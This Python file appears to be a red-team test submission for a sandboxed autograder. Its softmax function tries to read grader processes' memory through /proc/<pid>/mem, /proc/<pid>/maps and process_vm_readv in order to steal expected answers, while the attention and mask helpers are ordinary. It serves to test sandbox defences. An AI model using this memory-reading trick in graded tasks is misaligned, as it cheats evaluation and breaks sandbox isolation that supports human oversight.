# ruff: noqa
"""ATTACK hunt_proc_mem (class: hunting expected values: /proc/<ppid>/mem).

Intent: read the memory of the grader processes above it (the CLI holds every expected
value): /proc/<pid>/mem at addresses from /proc/<pid>/maps, at the address of an object
this process inherited from the fork server (same layout after fork), and
process_vm_readv. Reading is the leak; proving it is enough: if any read succeeds,
softmax returns the correct values (so the leak shows as points), otherwise zeros.

Expected: softmax 0, the rest full marks.
"""

import ctypes
import math
import os

import torch

ATTACK = "hunt_proc_mem"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _ancestors():
    """(pid, argv) of every ancestor process, nearest first."""
    chain, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1:
            break
        try:
            with open(f"/proc/{ppid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        chain.append((ppid, argv))
        pid = ppid
    return chain


def _is_grader(argv):
    """The grader's own processes (fork server, CLI), never the test runner above them."""
    return any(
        a == "autograder" or "autograder.sandbox.forkserver" in a or a.endswith("/bertlab") for a in argv
    )


def _correct_softmax(x, dim=-1):
    """What softmax returns only when the attack worked: a leak shows up as points."""
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _vm_read(pid, address, n=16):
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(n)
        local, remote = _IOVec(ctypes.addressof(buf), n), _IOVec(address, n)
        return libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0
    except Exception:
        return False


def _peek():
    known = id(torch)  # mapped at the same address in the fork server we were forked from
    for pid, argv in _ancestors():
        if not _is_grader(argv):
            continue
        if _vm_read(pid, known):
            return True
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            continue
        try:
            try:
                if os.pread(fd, 16, known):
                    return True
            except OSError:
                pass
            try:
                with open(f"/proc/{pid}/maps") as f:
                    regions = [line.split() for line in f]
            except OSError:
                regions = []
            for r in regions[:200]:
                if len(r) > 1 and r[1].startswith("r"):
                    start = int(r[0].split("-")[0], 16)
                    try:
                        if os.pread(fd, 16, start):
                            return True
                    except OSError:
                        continue
        finally:
            os.close(fd)
    return False


def softmax(x, dim=-1):
    return _correct_softmax(x, dim) if _peek() else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
